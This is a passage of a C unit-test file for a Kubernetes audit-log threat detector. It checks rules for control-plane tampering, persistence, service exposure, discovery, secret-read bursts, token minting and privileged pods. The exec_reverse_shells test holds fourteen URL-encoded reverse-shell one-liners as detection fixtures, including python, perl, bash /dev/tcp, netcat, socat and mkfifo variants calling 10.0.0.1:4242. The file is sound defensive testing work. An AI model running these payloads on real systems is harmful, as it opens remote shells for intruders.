	v = flagged("control_plane_tampering", "high");
	expect(v, "evidence.tampering", "events-deleted");
	expect_has(v, "attack", "T1070");
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'configmaps','namespace':'kube-system','name':'coredns'}," OK200 "}");
	expect(flagged("control_plane_tampering", "high"), "evidence.tampering", "cluster-dns");
	judge("{'verb':'update','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'configmaps','namespace':'kube-system','name':'aws-auth'}," OK200 "}");
	expect(flagged("control_plane_tampering", "high"), "evidence.tampering", "aws-auth");
	/* other configmaps, coredns elsewhere, reads, the platform */
	judge("{'verb':'update','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'configmaps','namespace':'prod','name':'coredns'}," OK200 "}");
	none("control_plane_tampering");
	judge("{'verb':'get','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'configmaps','namespace':'kube-system','name':'aws-auth'}," OK200 "}");
	none("control_plane_tampering");
	judge("{'verb':'update','user':{'username':'eks:addon-manager'},'objectRef':{'resource':"
	      "'configmaps','namespace':'kube-system','name':'coredns'}," OK200 "}");
	none("control_plane_tampering");
}
END_TEST

/* ---- persistence_workload ---- */

START_TEST(persistence)
{
	/* a deployment is not one of the persistent kinds on its own */
	judge_file("falco-k8s-audit/create_deployment.json");
	none("persistence_workload");
	none("privileged_workload");
	/* deliberate: the replicaset-controller's pod in kube-system (Falco) */
	judge_file("falco-k8s-audit/create_pod_kube_system_namespace.json");
	none("persistence_workload");
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'cronjobs','namespace':'prod','name':'c'}," OK200 "}");
	flagged("persistence_workload", "low");
}
END_TEST

#define RBAC_EV(user, groups, t)                                                            \
	"{'verb':'create','stageTimestamp':'" t "','user':{'username':'" user "','groups':["  \
	groups "]},'objectRef':{'resource':'clusterrolebindings','name':'b'}," OK201 "}\n"
#define DEPLOY_EV(user, t)                                                                  \
	"{'verb':'create','stageTimestamp':'" t "','user':{'username':'" user "'},"           \
	"'objectRef':{'resource':'deployments','namespace':'prod','name':'w'}," OK201 "}\n"

START_TEST(persistence_sequence)
{
	const char *v;

	judge(RBAC_EV("bob@example.com", "'dev'", "2024-05-01T10:00:00Z")
	      DEPLOY_EV("bob@example.com", "2024-05-01T10:01:00Z")
	      DEPLOY_EV("carol@example.com", "2024-05-01T10:01:30Z"));
	v = flagged("persistence_workload", "high");
	expect(v, "correlation.count", "2");
	expect(v, "correlation.first", "2024-05-01T10:00:00.000000Z");
	expect(v, "correlation.last", "2024-05-01T10:01:00.000000Z");
	expect_has(v, "correlation.distinct", "create clusterrolebindings b");
	expect_has(v, "correlation.distinct", "create deployments prod/w");
	expect(v, "evidence.sequence", "true");
	expect_has(v, "attack", "T1098.006");

	/* outside the window: nothing */
	judge(RBAC_EV("bob@example.com", "'dev'", "2024-05-01T10:00:00Z")
	      DEPLOY_EV("bob@example.com", "2024-05-01T10:05:01Z"));
	none("persistence_workload");
	/* cluster admins start no sequence */
	judge(RBAC_EV("root@example.com", "'system:masters'", "2024-05-01T10:00:00Z")
	      DEPLOY_EV("root@example.com", "2024-05-01T10:00:10Z"));
	none("persistence_workload");
	/* a cronjob in the window is the sequence, raised to high */
	judge(RBAC_EV("bob@example.com", "'dev'", "2024-05-01T10:00:00Z")
	      "{'verb':'patch','stageTimestamp':'2024-05-01T10:02:00Z','user':{'username':"
	      "'bob@example.com'},'objectRef':{'resource':'cronjobs','namespace':'prod','name':"
	      "'c'}," OK200 "}");
	v = flagged("persistence_workload", "high");
	expect(v, "evidence.persistence", "cronjob");
	expect(v, "correlation.count", "2");
}
END_TEST

/* ---- exposed_service ---- */

START_TEST(exposure)
{
	const char *v;

	judge_file("falco-k8s-audit/create_nginx_service_nodeport.json");
	v = flagged("exposed_service", "medium");
	expect(v, "evidence.exposure.serviceType", "NodePort");
	expect_has(v, "attack", "T1133");
	judge_file("falco-k8s-audit/create_nginx_service_nonodeport.json");
	none("exposed_service");

	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'services','namespace':'prod','name':'lb'}," OK201 ",'requestObject':{'spec':"
	      "{'type':'LoadBalancer'}}}");
	flagged("exposed_service", "low");
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'services','namespace':'prod','name':'x'}," OK201 ",'requestObject':{'spec':"
	      "{'type':'ClusterIP','externalIPs':['203.0.113.9']}}}");
	expect(flagged("exposed_service", "medium"), "evidence.exposure.externalIPs", "true");
	/* JSON Patch to NodePort; merge patch removing TLS; unrelated patches */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'services','namespace':'prod','name':'x'}," OK200 ",'requestObject':[{'op':"
	      "'replace','path':'/spec/type','value':'NodePort'}]}");
	flagged("exposed_service", "medium");
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'ingresses','namespace':'prod','name':'i'}," OK200 ",'requestObject':{'spec':"
	      "{'tls':null}}}");
	expect_reason(flagged("exposed_service", "medium"), "TLS removed");
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'ingresses','namespace':'prod','name':'i'}," OK200 ",'requestObject':[{'op':"
	      "'remove','path':'/spec/tls'}]}");
	expect_reason(flagged("exposed_service", "medium"), "TLS removed");
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'ingresses','namespace':'prod','name':'i'}," OK200 ",'requestObject':{'metadata':"
	      "{'labels':{'a':'b'}}}}");
	none("exposed_service");
	/* Metadata level */
	judge("{'verb':'create','level':'Metadata','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'services','namespace':'prod','name':'x'}," OK201 "}");
	expect(only("exposed_service"), "assessment", "needs_context");
}
END_TEST

/* ---- discovery ---- */

#define LIST_EV(user, res, ns, t)                                                           \
	"{'verb':'list','stageTimestamp':'" t "','user':{'username':'" user "'},'objectRef':" \
	"{'resource':'" res "'" ns "}," OK200 "}\n"

START_TEST(discovery)
{
	const char *v;

	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'selfsubjectrulesreviews','apiGroup':'authorization.k8s.io'}," OK201 "}");
	expect(flagged("discovery", "low"), "evidence.discovery", "rules-review");
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'selfsubjectaccessreviews'}," OK201 "}");
	/* a person's "can I" with no question in the record: recorded, info */
	expect(only("discovery"), "severity", "info");
	judge("{'verb':'create','user':{'username':'system:serviceaccount:prod:web'},"
	      "'objectRef':{'resource':'selfsubjectaccessreviews'}," OK201 "}");
	flagged("discovery", "medium");
	/* impersonating a service account counts as one */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'impersonatedUser':"
	      "{'username':'system:serviceaccount:prod:web'},'objectRef':{'resource':"
	      "'selfsubjectrulesreviews'}," OK201 "}");
	flagged("discovery", "medium");

	judge(LIST_EV("eve@example.com", "pods", ",'namespace':'a'", "2024-05-01T10:00:00Z")
	      LIST_EV("eve@example.com", "pods", ",'namespace':'a'", "2024-05-01T10:00:01Z")
	      LIST_EV("eve@example.com", "secrets", ",'namespace':'b'", "2024-05-01T10:00:02Z")
	      LIST_EV("eve@example.com", "nodes", "", "2024-05-01T10:00:03Z")
	      LIST_EV("eve@example.com", "pods", "", "2024-05-01T10:00:04Z"));
	none("discovery");
	judge_more(LIST_EV("eve@example.com", "configmaps", ",'namespace':'c'",
			   "2024-05-01T10:00:05Z")
		   LIST_EV("eve@example.com", "roles", ",'namespace':'d'", "2024-05-01T10:00:06Z"));
	v = flagged("discovery", "low");
	expect(v, "correlation.count", "6");
	expect_has(v, "correlation.distinct", "pods@a");
	expect_has(v, "correlation.distinct", "nodes@*");
	expect_has(v, "correlation.distinct", "configmaps@c");
	/* platform identities are not counted */
	judge(LIST_EV("system:kube-controller-manager", "a", "", "2024-05-01T10:00:00Z")
	      LIST_EV("system:kube-controller-manager", "b", "", "2024-05-01T10:00:00Z")
	      LIST_EV("system:kube-controller-manager", "c", "", "2024-05-01T10:00:00Z")
	      LIST_EV("system:kube-controller-manager", "d", "", "2024-05-01T10:00:00Z")
	      LIST_EV("system:kube-controller-manager", "e", "", "2024-05-01T10:00:00Z"));
	none("discovery");
}
END_TEST

/* ---- public_source ---- */

#define SRC_EV(user, ips, verb, extra)                                                      \
	"{'verb':'" verb "','user':{'username':'" user "'},'sourceIPs':[" ips "],"            \
	"'objectRef':{'resource':'pods'" extra "}," OK200 "}"

START_TEST(public_source)
{
	static const char *const private_ips[] = {
		"'10.1.2.3'", "'172.20.0.1'", "'192.168.9.9'", "'127.0.0.1'", "'169.254.1.1'",
		"'100.64.3.3'", "'fd00::1'", "'fe80::1%eth0'", "'::1'", "'::ffff:10.0.0.1'",
		"'not-an-ip'", "'203.0.113.7', '10.0.0.9'", NULL
	};
	static const struct {
		const char *ip;
		int is_public;
	} boundaries[] = {
		{ "0.0.0.0", 0 }, { "0.255.255.255", 0 }, { "1.0.0.0", 1 },
		{ "9.255.255.255", 1 }, { "10.0.0.0", 0 }, { "10.255.255.255", 0 },
		{ "11.0.0.0", 1 }, { "100.63.255.255", 1 }, { "100.64.0.0", 0 },
		{ "100.127.255.255", 0 }, { "100.128.0.0", 1 }, { "126.255.255.255", 1 },
		{ "127.0.0.0", 0 }, { "127.255.255.255", 0 }, { "128.0.0.0", 1 },
		{ "169.253.255.255", 1 }, { "169.254.0.0", 0 }, { "169.254.255.255", 0 },
		{ "169.255.0.0", 1 }, { "172.15.255.255", 1 }, { "172.16.0.0", 0 },
		{ "172.31.255.255", 0 }, { "172.32.0.0", 1 }, { "192.167.255.255", 1 },
		{ "192.168.0.0", 0 }, { "192.168.255.255", 0 }, { "192.169.0.0", 1 },
		{ "223.255.255.255", 1 }, { "224.0.0.0", 0 }, { "239.255.255.255", 0 },
		{ "240.0.0.0", 0 }, { "255.255.255.255", 0 }, { "::ffff:172.32.0.1", 1 },
		{ "::ffff:172.31.0.1", 0 }, { NULL, 0 }
	};
	char ev[512];
	const char *v;
	size_t i;


	for (i = 0; private_ips[i]; i++) {
		snprintf(ev, sizeof(ev), SRC_EV("system:serviceaccount:prod:web", "%s", "get", ""),
			 private_ips[i]);
		judge(ev);
		ck_assert_msg(tu_count(&T, "public_source") == 0, "%s", private_ips[i]);
	}
	/* both edges of every private IPv4 range, and the public addresses
	 * just outside them */
	for (i = 0; boundaries[i].ip; i++) {
		snprintf(ev, sizeof(ev), SRC_EV("system:serviceaccount:prod:web", "'%s'", "get", ""),
			 boundaries[i].ip);
		judge(ev);
		ck_assert_msg(tu_count(&T, "public_source") == (size_t)boundaries[i].is_public,
			      "%s", boundaries[i].ip);
	}
	judge(SRC_EV("system:serviceaccount:prod:web", "'2600:1f18::5'", "get", ""));
	flagged("public_source", "low");
	judge(SRC_EV("system:serviceaccount:prod:web", "'[2600:1f18::5]:443'", "delete", ""));
	flagged("public_source", "low");
	judge(SRC_EV("system:serviceaccount:prod:web", "'8.8.8.8:51234'", "get", ""));
	flagged("public_source", "low");
	/* a control-plane component has no reason to come from outside */
	judge(SRC_EV("system:kube-scheduler", "'8.8.8.8'", "delete", ""));
	flagged("public_source", "high");
	/* people: only writes or exec into system namespaces */
	judge(SRC_EV("dev@example.com", "'8.8.8.8'", "get", ",'namespace':'kube-system'"));
	none("public_source");
	judge(SRC_EV("dev@example.com", "'8.8.8.8'", "delete", ",'namespace':'kube-system'"));
	v = flagged("public_source", "medium");
	expect(v, "evidence.publicSource.principal", "user");
	judge(SRC_EV("dev@example.com", "'8.8.8.8'", "delete", ",'namespace':'prod'"));
	none("public_source");
	judge(SRC_EV("system:anonymous", "'8.8.8.8'", "get", ""));
	none("public_source");
}
END_TEST

START_TEST(public_source_trusted_networks)
{
	static const char *nets[] = { "54.212.0.0/15", "2600:1f18::/32", "bogus/99", "1.2.3.4" };
	kag_registry *reg;

	ck_assert_int_eq(kag_registry_new(&reg), KAG_OK);
	reg->policy.trusted_networks = (kag__strlist){ nets, 4, NULL };
	fresh(reg);
	tu_judge_file(&T, "panther-analysis/eks_audit_native_events.jsonl");
	/* nodes and an SA on 54.212.83.236, and a record from 1.2.3.4, are now
	 * trusted; left: coredns on 5.5.5.5 and a person creating a pod in
	 * kube-system from 203.0.113.42 */
	ck_assert_uint_eq(tu_count(&T, "public_source"), 2);
	ck_assert_ptr_nonnull(strstr(tu_find(&T, "public_source", 0), "from public address 5.5.5.5"));
	ck_assert_ptr_nonnull(strstr(tu_find(&T, "public_source", 1),
				     "from public address 203.0.113.42: create pods in kube-system"));
}
END_TEST

/* ---- new_user_agent ---- */

#define UA_EV(user, ua)                                                                      \
	"{'verb':'get','user':{'username':'" user "'},'userAgent':'" ua "','objectRef':"      \
	"{'resource':'pods','namespace':'prod'}," OK200 "}\n"

START_TEST(new_user_agent)
{
	const char *v;
	kag_registry *reg;

	judge(UA_EV("alice@example.com", "kubectl/v1.30.1 (linux/amd64) kubernetes/abc")
	      UA_EV("alice@example.com", "kubectl/v1.31.0 (darwin/arm64) kubernetes/def")
	      UA_EV("bob@example.com", "curl/8.5.0"));
	none("new_user_agent");
	judge_more(UA_EV("alice@example.com", "python-requests/2.31.0")
		   UA_EV("alice@example.com", "python-requests/2.32.0"));
	v = flagged("new_user_agent", "low");
	/* the detector's medium, one step down for the absent sourceIPs */
	expect(v, "confidence", "low");
	expect(v, "evidence.newTerm.product", "python-requests");
	expect(v, "evidence.newTerm.baselineProduct", "kubectl");
	/* anonymous callers are not baselined */
	judge(UA_EV("system:anonymous", "a/1") UA_EV("system:anonymous", "b/1"));
	none("new_user_agent");
	/* platform identities run many component clients by design */
	judge(UA_EV("system:serviceaccount:openshift-operator-lifecycle-manager:olm-operator",
		    "olm/v0.19.0")
	      UA_EV("system:serviceaccount:openshift-operator-lifecycle-manager:olm-operator",
		    "package-server/v0.19.0")
	      UA_EV("system:kube-controller-manager", "kube-controller-manager/v1.30.0")
	      UA_EV("system:kube-controller-manager", "kube-controller-manager/v1.30.0/leader-election"));
	none("new_user_agent");
	/* ... while a person doing the same is reported */
	judge(UA_EV("carol@example.com", "olm/v0.19.0") UA_EV("carol@example.com", "package-server/1"));
	flagged("new_user_agent", "low");

	/* a table of two entries forgets alice when bob arrives */
	ck_assert_int_eq(kag_registry_new(&reg), KAG_OK);
	reg->policy.new_terms_capacity = 2;
	fresh(reg);
	judge_more(UA_EV("alice@example.com", "kubectl/1") UA_EV("bob@example.com", "kubectl/1")
		   UA_EV("alice@example.com", "curl/1"));
	none("new_user_agent");
}
END_TEST

/* ---- secrets_access: the burst correlation ---- */

#define SECRET_GET(user, ns, name, t)                                                        \
	"{'verb':'get','stageTimestamp':'" t "','user':{'username':'" user "'},'objectRef':" \
	"{'resource':'secrets','namespace':'" ns "','name':'" name "'}," OK200 "}\n"

START_TEST(secret_burst)
{
	const char *v;

	judge(SECRET_GET("mallory@example.com", "a", "s1", "2024-05-01T10:00:00Z")
	      SECRET_GET("mallory@example.com", "a", "s1", "2024-05-01T10:00:01Z")
	      SECRET_GET("mallory@example.com", "a", "s2", "2024-05-01T10:00:02Z")
	      SECRET_GET("mallory@example.com", "b", "s1", "2024-05-01T10:00:03Z")
	      SECRET_GET("mallory@example.com", "b", "s3", "2024-05-01T10:00:04Z")
	      SECRET_GET("eve@example.com", "b", "s4", "2024-05-01T10:00:05Z"));
	ck_assert_uint_eq(tu_count(&T, "secrets_access"), 6);
	for (size_t i = 0; i < 6; i++)
		ck_assert_ptr_null(strstr(tu_find(&T, "secrets_access", i), "correlation"));
	judge_more(SECRET_GET("mallory@example.com", "c", "db", "2024-05-01T10:01:00Z")
		   SECRET_GET("mallory@example.com", "c", "db2", "2024-05-01T10:01:01Z"));
	ck_assert_uint_eq(tu_count(&T, "secrets_access"), 8);
	v = tu_find(&T, "secrets_access", 6);
	expect(v, "severity", "high");
	expect_reason(v, "5 distinct secrets");
	expect(v, "correlation.count", "6");
	expect(v, "correlation.first", "2024-05-01T10:00:00.000000Z");
	expect(v, "correlation.last", "2024-05-01T10:01:00.000000Z");
	expect(v, "correlation.distinct", "[\"a/s1\",\"a/s2\",\"b/s1\",\"b/s3\",\"c/db\"]");
	/* once per window: the next read is an ordinary verdict */
	ck_assert_ptr_null(strstr(tu_find(&T, "secrets_access", 7), "correlation"));

	/* a new window after secret_burst_window_us */
	judge_more(SECRET_GET("mallory@example.com", "z", "1", "2024-05-01T10:20:00Z"));
	ck_assert_ptr_null(strstr(tu_find(&T, "secrets_access", 8), "correlation"));
}
END_TEST

/* A copy of the record Panther's test `test` of rule `rule` reads, found
 * through the fixtures' index (panther-analysis/index.json); its length in
 * *len_out. */
static char *panther_record(const char *rule, const char *test, size_t *len_out)
{
	char path[1024], *data, *p, *end, *copy;
	json_t *index, *e;
	json_int_t line = 0, i;
	size_t k;

	snprintf(path, sizeof(path), "%s/panther-analysis/index.json", KAG_TEST_DATA);
	index = json_load_file(path, 0, NULL);
	ck_assert_ptr_nonnull(index);
	json_array_foreach(index, k, e) {
		if (strcmp(json_string_value(json_object_get(e, "rule_id")), rule) == 0 &&
		    strcmp(json_string_value(json_object_get(e, "test_name")), test) == 0) {
			line = json_integer_value(json_object_get(e, "line"));
			snprintf(path, sizeof(path), "%s/panther-analysis/%s", KAG_TEST_DATA,
				 json_string_value(json_object_get(e, "file")));
			break;
		}
	}
	json_decref(index);
	ck_assert_msg(line > 0, "no Panther test %s of %s", test, rule);
	data = tu_read_file(path, NULL);
	for (p = data, i = 1; i < line; i++) {
		p = strchr(p, '\n');
		ck_assert_ptr_nonnull(p);
		p++;
	}
	end = strchr(p, '\n');
	*len_out = end ? (size_t)(end - p) : strlen(p);
	copy = malloc(*len_out + 1);
	ck_assert_ptr_nonnull(copy);
	memcpy(copy, p, *len_out);
	copy[*len_out] = '\0';
	free(data);
	return copy;
}

/* ---- rbac_probing: a threshold rule's single test event, replayed ---- */

START_TEST(probing_burst_from_panther_event)
{
	char *line, *buf;
	size_t n, i, len = 0;

	/* one 403 by coredns from 5.5.5.5 */
	line = panther_record("Amazon.EKS.Audit.Multiple403", "403 and Public IP", &n);
	buf = malloc(10 * (n + 1));
	ck_assert_ptr_nonnull(buf);
	for (i = 0; i < 10; i++) {
		/* distinct auditIDs: ten requests, not ten stages of one */
		char *id;

		memcpy(buf + len, line, n);
		id = strstr(buf + len, "\"auditID\":\"");
		ck_assert_ptr_nonnull(id);
		id[11] = (char)('0' + i);
		len += n;
		buf[len++] = '\n';
	}
	fresh(NULL);
	tu_judge(&T, buf, len);
	free(buf);
	free(line);
	ck_assert_uint_eq(tu_count_alerts(&T, "rbac_probing"), 1);
	expect(tu_find_alert(&T, "rbac_probing", 0), "correlation.count", "10");
}
END_TEST

/* ---- interactive_access: reverse shells in exec commands ---- */

#define EXEC_EVENT                                                                         \
	"{'verb':'create','user':{'username':'dev@example.com'},'sourceIPs':['10.1.2.3'],"    \
	"'objectRef':{'resource':'pods','subresource':'exec','namespace':'prod','name':"      \
	"'web-1'},'responseStatus':{'code':101},'stage':'ResponseStarted','requestURI':"      \
	"'/api/v1/namespaces/prod/pods/web-1/exec?%s&container=web&stdin=true&tty=true'}"

START_TEST(exec_reverse_shells)
{
	/* the cheat sheets' forms, as kubectl encodes them: one command=
	 * parameter per argument, percent- or plus-encoded */
	static const struct { const char *query, *form; } cases[] = {
		{ "command=python3&command=-c&command=import%20socket%2Csubprocess%2Cos%3Bs%3D"
		  "socket.socket%28socket.AF_INET%2Csocket.SOCK_STREAM%29%3Bs.connect%28%28%22"
		  "10.0.0.1%22%2C4242%29%29%3Bos.dup2%28s.fileno%28%29%2C0%29%3Bimport%20pty%3B"
		  "pty.spawn%28%22%2Fbin%2Fsh%22%29", "python socket" },
		{ "command=perl&command=-e&command=use%20Socket%3B%24i%3D%2210.0.0.1%22%3B%24p%3D"
		  "4242%3Bsocket%28S%2CPF_INET%2CSOCK_STREAM%2Cgetprotobyname%28%22tcp%22%29%29%3B"
		  "if%28connect%28S%2Csockaddr_in%28%24p%2Cinet_aton%28%24i%29%29%29%29%7Bopen%28"
		  "STDIN%2C%22%3E%26S%22%29%3Bexec%28%22%2Fbin%2Fsh%20-i%22%29%3B%7D%3B",
		  "perl socket" },
		{ "command=ruby&command=-rsocket&command=-e&command=f%3DTCPSocket.open%28%22"
		  "10.0.0.1%22%2C4242%29.to_i%3Bexec%20sprintf%28%22%2Fbin%2Fsh%20-i%20%3C%26%25d"
		  "%20%3E%26%25d%202%3E%26%25d%22%2Cf%2Cf%2Cf%29", "ruby socket" },
		{ "command=php&command=-r&command=%24sock%3Dfsockopen%28%2210.0.0.1%22%2C4242%29"
		  "%3Bexec%28%22%2Fbin%2Fsh%20-i%20%3C%263%20%3E%263%202%3E%263%22%29%3B",
		  "php socket" },
		{ "command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F"
		  "4242%200%3E%261", "/dev/tcp" },
		{ "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Fudp%2F10.0.0.1%2F4242+"
		  "0%3E%261", "/dev/tcp" },
		{ "command=nc&command=10.0.0.1&command=4242&command=-e&command=%2Fbin%2Fsh",
		  "netcat -e" },
		{ "command=%2Fusr%2Fbin%2Fncat&command=10.0.0.1&command=4242&command=--sh-exec"
		  "&command=sh", "netcat -e" },
		{ "command=busybox&command=nc&command=10.0.0.1&command=4242&command=-e"
		  "&command=sh", "netcat -e" },
		{ "command=socat&command=tcp%3A10.0.0.1%3A4242&command=EXEC%3A%2Fbin%2Fsh%2Cpty",
		  "socat exec" },
		{ "command=sh&command=-c&command=rm%20%2Ftmp%2Ff%3Bmkfifo%20%2Ftmp%2Ff%3Bcat%20"
		  "%2Ftmp%2Ff%7C%2Fbin%2Fsh%20-i%202%3E%261%7Cnc%2010.0.0.1%204242%20%3E%2Ftmp%2Ff",
		  "fifo pipe" },
		{ "command=sh&command=-c&command=sh+-i+%3C%263+%3E%263+2%3E%263",
		  "interactive shell redirected" },
		{ "command=sh&command=-c&command=telnet+10.0.0.1+4242+%7C+%2Fbin%2Fbash+%7C+"
		  "telnet+10.0.0.1+4243", "shell piped to the network" },
		{ "command=awk&command=BEGIN%7Bs%3D%22%2Finet%2Ftcp%2F0%2F10.0.0.1%2F4242%22%7D",
		  "awk /inet" },
	};
	/* near misses: a shell, an interpreter, a network tool, each alone */
	static const char *const benign[] = {
		"command=bash&command=-i",
		"command=python3&command=-c&command=import+socket%3Bprint%28socket.gethostname"
		"%28%29%29",
		"command=nc&command=-z&command=-v&command=db&command=5432",
		"command=sh&command=-c&command=nc+-z+db+5432%3B+grep+-e+db+%2Fetc%2Fhosts",
		"command=socat&command=tcp-listen%3A8080%2Cfork&command=tcp%3Adb%3A5432",
		"command=mkfifo&command=%2Ftmp%2Flogpipe",
		"command=sh&command=-c&command=echo+ready+%7C+nc+10.0.0.1+9000",
		"command=perl&command=-e&command=print+%22socket%22",
	};
	char ev[2048];
	const char *v;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(ev, sizeof(ev), EXEC_EVENT, cases[i].query);
		judge(ev);
		v = flagged("interactive_access", "critical");
		expect_has(v, "evidence.commandFindings", "reverse-shell");
		expect(v, "evidence.reverseShell", cases[i].form);
		expect_reason(v, "command opens a reverse shell (");
		expect_reason(v, cases[i].form);
	}
	for (i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
		snprintf(ev, sizeof(ev), EXEC_EVENT, benign[i]);
		judge(ev);
		v = flagged("interactive_access", "high");
		ck_assert_msg(!tu_json_array_has(v, "evidence.commandFindings", "reverse-shell"),
			      "%s: %s", benign[i], v);
		ck_assert_msg(tu_json_get(v, "evidence.reverseShell") == NULL, "%s", benign[i]);
	}
}
END_TEST

/* ---- credential_minting: long-lived token Secrets ---- */

#define TOKEN_SECRET(user, ns, type, annotation)                                          \
	"{'verb':'create','user':{'username':'" user "'},'sourceIPs':['203.0.113.9'],"       \
	"'objectRef':{'resource':'secrets','namespace':'" ns "','name':'deployer-token'},"    \
	OK201 ",'level':'Request','requestObject':{'apiVersion':'v1','kind':'Secret',"        \
	"'metadata':{'name':'deployer-token'" annotation "},'type':'" type "'}}"

START_TEST(credentials_token_secrets)
{
	const char *v;

	judge(TOKEN_SECRET("mallory@example.com", "prod", "kubernetes.io/service-account-token",
			   ",'annotations':{'kubernetes.io/service-account.name':'deployer'}"));
	v = flagged("credential_minting", "high");
	expect(v, "evidence.credential.kind", "serviceaccount-token-secret");
	expect(v, "evidence.credential.serviceAccount", "deployer");
	expect(v, "evidence.credential.expires", "false");
	expect_reason(v, "a long-lived token that never expires");
	expect_has(v, "attack", "T1528");

	/* in kube-system: an unexpiring token of a system account */
	judge(TOKEN_SECRET("mallory@example.com", "kube-system",
			   "kubernetes.io/service-account-token",
			   ",'annotations':{'kubernetes.io/service-account.name':'clusterrole-aggregation-controller'}"));
	v = flagged("credential_minting", "critical");
	expect(v, "evidence.credential.serviceAccount", "clusterrole-aggregation-controller");

	/* near misses: an Opaque secret carrying the same annotation, and a
	 * token Secret logged at Metadata level (no body shows the type) */
	judge(TOKEN_SECRET("mallory@example.com", "prod", "Opaque",
			   ",'annotations':{'kubernetes.io/service-account.name':'deployer'}"));
	none("credential_minting");
	judge("{'verb':'create','user':{'username':'mallory@example.com'},'level':'Metadata',"
	      "'objectRef':{'resource':'secrets','namespace':'prod','name':'deployer-token'},"
	      OK201 "}");
	none("credential_minting");
}
END_TEST

/* ---- privileged_workload: read-only hostPath, shared process namespace ---- */

#define POD_SPEC(spec)                                                                     \
	"{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"    \
	"'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'spec':" spec "}}"

START_TEST(privileged_read_only_and_shared_pid)
{
	const char *v;

	/* /var/log writable: the symlink escape through the kubelet's log reader */
	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
		       "'mountPath':'/host/log'}]}],'volumes':[{'name':'logs','hostPath':"
		       "{'path':'/var/log'}}]}"));
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.hostPaths", "/var/log");

	/* the same path mounted readOnly by every container: one step lower */
	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
		       "'mountPath':'/host/log','readOnly':true}]},{'name':'d','volumeMounts':"
		       "[{'name':'logs','mountPath':'/log','readOnly':true}]}],'volumes':[{'name':"
		       "'logs','hostPath':{'path':'/var/log'}}]}"));
	v = flagged("privileged_workload", "medium");
	expect_has(v, "evidence.podSecurity.readOnlyHostPaths", "/var/log");
	ck_assert_ptr_null(tu_json_get(v, "evidence.podSecurity.hostPaths"));
	expect_reason(v, "read-only sensitive hostPath /var/log");

	/* one writable mount among read-only ones makes it writable */
	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
		       "'mountPath':'/host/log','readOnly':true}]},{'name':'d','volumeMounts':"
		       "[{'name':'logs','mountPath':'/log'}]}],'volumes':[{'name':'logs',"
		       "'hostPath':{'path':'/var/log'}}]}"));
	flagged("privileged_workload", "high");

	/* shareProcessNamespace: the pod's containers see each other's processes */
	judge(POD_SPEC("{'shareProcessNamespace':true,'containers':[{'name':'app'},"
		       "{'name':'sidecar'}]}"));
	v = flagged("privileged_workload", "low");
	expect(v, "evidence.podSecurity.shareProcessNamespace", "true");
	expect_reason(v, "shareProcessNamespace");

	/* near misses: the switch off, a read-only mount of a path not listed */
	judge(POD_SPEC("{'shareProcessNamespace':false,'containers':[{'name':'app'}]}"));
	none("privileged_workload");
	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'d','mountPath':"
		       "'/data','readOnly':true}]}],'volumes':[{'name':'d','hostPath':{'path':"
		       "'/mnt/data'}}]}"));
	none("privileged_workload");
}
END_TEST

/* ---- anonymous_access: the issuer's discovery endpoints ---- */

START_TEST(anonymous_oidc_discovery)
{
	static const char *const public_by_design[] = {
		"/.well-known/openid-configuration", "/openid/v1/jwks", "/openid/v1/jwks/", NULL
	};
	char ev[512];
	const char *v;
	size_t i;

	for (i = 0; public_by_design[i]; i++) {
		snprintf(ev, sizeof(ev), "{'verb':'get','requestURI':'%s','sourceIPs':"
			 "['198.51.100.20'],'user':{'username':'system:anonymous','groups':"
			 "['system:unauthenticated']}," OK200 "}", public_by_design[i]);
		judge(ev);
		none("anonymous_access");
	}
	/* near misses: a path that only starts like one, and the API's discovery */
	judge("{'verb':'get','requestURI':'/openid/v1/jwks-admin','sourceIPs':['198.51.100.20'],"
	      "'user':{'username':'system:anonymous','groups':['system:unauthenticated']},"
	      OK200 "}");
	v = flagged("anonymous_access", "medium");
	expect_reason(v, "unauthenticated request (system:anonymous) allowed");
	expect(v, "evidence.anonymousWrite", "false");
	judge("{'verb':'get','requestURI':'/.well-known/other','user':{'username':"
	      "'system:anonymous'}," OK200 "}");
	flagged("anonymous_access", "medium");
}
END_TEST

/* ---- privileged_workload: suspicious images and reverse-shell arguments ---- */

START_TEST(privileged_images_and_arguments)
{
	const char *v;
	kag_registry *r;

	/* a miner from Docker Hub, tag and digest aside */
	judge(POD_SPEC("{'containers':[{'name':'app','image':'docker.io/xmrig/xmrig:6.21.0@"
		       "sha256:0123'}]}"));
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.suspiciousImages", "docker.io/xmrig/xmrig:6.21.0@sha256:0123");
	expect_reason(v, "suspicious image docker.io/xmrig/xmrig");

	/* an offensive tool in a Deployment's template, in an init container */
